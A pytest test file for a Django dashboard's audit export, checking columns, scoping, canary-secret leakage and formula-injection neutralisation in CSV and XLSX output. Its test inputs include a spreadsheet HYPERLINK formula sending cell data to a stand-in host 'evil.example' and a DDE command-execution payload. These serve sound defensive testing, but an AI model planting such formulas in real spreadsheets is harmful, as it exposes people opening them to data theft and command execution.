"""The audit spreadsheet contract: columns, one row per credential, ISO dates, yes/no, formula
neutralisation, streaming, no secret value anywhere, and an audit log entry per export."""

import csv
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dashboard.spreadsheet import AUDIT_COLUMNS, audit_rows
from inventory.models import AuditLogEntry, Bot
from scanners.models import ProbeRun
from scanners.redaction import redact, secret_fingerprint
from tests.dashboard.conftest import make_finding

COLUMNS = [
    "team", "bot", "owner", "environment", "credential", "store", "ref", "service", "identities", "created",
    "last_rotated", "age_days", "rotation_days", "rotation_overdue", "last_used", "over_broad_access", "leaked",
    "open_critical", "open_high", "open_medium", "open_low", "risk_score", "last_audited",
]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
CANARY = "AKIACANARY0SECRET0VALUE0DO0NOT0LEAK0123"


def _csv(response):
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def auditor(client, world):
    client.force_login(world["users"]["auditor"])
    return client


def test_columns_and_rows(auditor, world):
    rows = _csv(auditor.get("/export/audit.csv"))
    assert AUDIT_COLUMNS == COLUMNS and rows[0] == COLUMNS
    by_key = {(r[1], r[4]): dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert set(by_key) == {("lonely-bot", ""), ("pay-bot", "aws-key"), ("pay-bot", "stripe"), ("plat-bot", "db")}
    stripe = by_key[("pay-bot", "stripe")]
    cred = world["cred"]
    assert stripe["created"] == cred.created_at.isoformat()
    assert stripe["last_rotated"] == cred.last_rotated_at.isoformat()
    assert stripe["age_days"] == "100" and stripe["rotation_days"] == "30" and stripe["rotation_overdue"] == "yes"
    assert stripe["leaked"] == "yes" and stripe["over_broad_access"] == "no"
    counts = (stripe["open_critical"], stripe["open_high"], stripe["open_medium"], stripe["open_low"])
    assert counts == ("1", "1", "0", "0")
    assert stripe["risk_score"] == "60" and stripe["last_audited"] == world["run"].finished.isoformat()
    assert stripe["identities"] == "aws_iam_user:arn:aws:iam::123456789012:user/pay-bot"
    assert by_key[("pay-bot", "aws-key")]["rotation_overdue"] == "no"  # no policy, nothing overdue
    assert by_key[("plat-bot", "db")]["over_broad_access"] == "yes"
    lonely = by_key[("lonely-bot", "")]
    assert lonely["store"] == lonely["ref"] == lonely["created"] == lonely["rotation_overdue"] == ""
    assert lonely["risk_score"] == "" and lonely["team"] == "payments"


def test_fleet_filters_apply_to_the_export(auditor, world):
    rows = _csv(auditor.get("/export/audit.csv?team=platform"))
    assert [r[1] for r in rows[1:]] == ["plat-bot"]
    rows = _csv(auditor.get("/export/audit.csv?leaks=yes"))
    assert {r[1] for r in rows[1:]} == {"pay-bot"}


def test_viewer_export_is_scoped(client, world):
    client.force_login(world["users"]["viewer_b"])
    rows = _csv(client.get("/export/audit.csv"))
    assert {r[0] for r in rows[1:]} == {"platform"}
    rows = _csv(client.get("/export/findings.csv"))
    assert {r[5] for r in rows[1:]} == {"plat-bot"}


def test_formulas_are_neutralised_in_csv_and_xlsx(auditor, world, make_bot, make_credential):
    bot = make_bot(HYPERLINK, description=DDE, owner="", environment="-prod")
    bot.slug = "evil-bot"
    bot.save()
    make_credential(bot, "+plus", ref=DDE, service="@svc", rotation_days=7)
    make_finding(bot, "test.formula", subject=DDE, severity="low")
    rows = _csv(auditor.get("/export/audit.csv"))
    evil = next(r for r in rows if "HYPERLINK" in r[1])
    assert evil[1] == "'" + HYPERLINK and evil[3] == "'-prod" and evil[4] == "'+plus"
    assert evil[6] == "'" + DDE and evil[7] == "'@svc"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    findings = _csv(auditor.get("/export/findings.csv"))
    assert any(r[6] == "'" + DDE for r in findings)

    response = auditor.get("/export/audit.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == COLUMNS
    row = next(v for v in values if "HYPERLINK" in str(v[1]))
    assert row[1] == "'" + HYPERLINK and row[6] == "'" + DDE
    assert row[12] == 7 and isinstance(row[20], int)  # numbers stay numbers
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", cell.coordinate


def test_no_secret_value_in_any_output(auditor, world):
    """The inventory holds no secret; a probe may hold a redacted preview and a fingerprint. Plant a
    canary where a careless page or export could pick it up and check every output path."""
    make_finding(world["bot_a"], "git.secret.leak_canary", severity="critical", category="leak",
                 evidence={"preview": redact(CANARY), "fingerprint": secret_fingerprint(CANARY), "path": "cfg.py"})
    ProbeRun.objects.create(audit_run=world["run"], kind="git", scope="connector:9", status="ok",
                            facts={"fingerprints": [secret_fingerprint(CANARY)]})
    bodies = []
    for url in ("/", "/bots/", "/bots/pay-bot/", "/findings/", "/runs/", "/export/audit.csv",
                "/export/findings.csv", "/export/audit.xlsx"):
        response = auditor.get(url)
        bodies.append(b"".join(response.streaming_content) if response.streaming else response.content)
    out = io.StringIO()
    call_command("export_audit", stdout=out)
    bodies.append(out.getvalue().encode())
    for body in bodies:
        assert CANARY.encode() not in body
        assert CANARY[4:20].encode() not in body
    assert redact(CANARY).encode() in bodies[2]  # the bot page shows the redacted preview


def test_every_export_is_audit_logged(auditor, world):
    auditor.get("/export/audit.csv?team=payments")
    auditor.get("/export/audit.xlsx")
    auditor.get("/export/findings.csv?severity=high")
    call_command("export_audit", stdout=io.StringIO())
    entries = list(AuditLogEntry.objects.filter(action__startswith="export.").order_by("pk")
                   .values_list("action", "user__username", "detail"))
    assert entries == [
        ("export.audit.csv", "aud@example.com", {"filters": {"team": "payments"}}),
        ("export.audit.xlsx", "aud@example.com", {"filters": {}}),
        ("export.findings.csv", "aud@example.com", {"filters": {"severity": "high"}}),
        ("export.audit.csv", None, {"filters": {"command": "export_audit"}}),
    ]


def test_rows_are_produced_lazily_chunk_by_chunk(world, make_bot):
    for i in range(9):
        make_bot(f"many-{i}")
    rows = audit_rows(bots=Bot.objects.all(), chunk_size=2)
    with CaptureQueriesContext(connection) as first:
        next(rows)
    assert len(first.captured_queries) == 5  # ids + one chunk (bots, credentials, identities, counts)
    with CaptureQueriesContext(connection) as rest:
        remaining = list(rows)
    assert len(remaining) == 9 + 4 - 1  # 12 bots, pay-bot has two credentials
    assert len(rest.captured_queries) == 4 * 5  # five more chunks, four queries each


def test_export_audit_command(world, tmp_path):
    target = tmp_path / "audit.csv"
    call_command("export_audit", "--team", "platform", "-o", str(target))
    rows = list(csv.reader(target.open()))
    assert rows[0] == COLUMNS and [r[1] for r in rows[1:]] == ["plat-bot"]
    xlsx = tmp_path / "audit.xlsx"
    call_command("export_audit", "--format", "xlsx", "-o", str(xlsx))
    assert load_workbook(xlsx).active.max_row == 5
    with pytest.raises(CommandError, match="give -o FILE"):
        call_command("export_audit", "--format", "xlsx")
    with pytest.raises(CommandError, match="'nope': no such team"):
        call_command("export_audit", "--team", "nope")
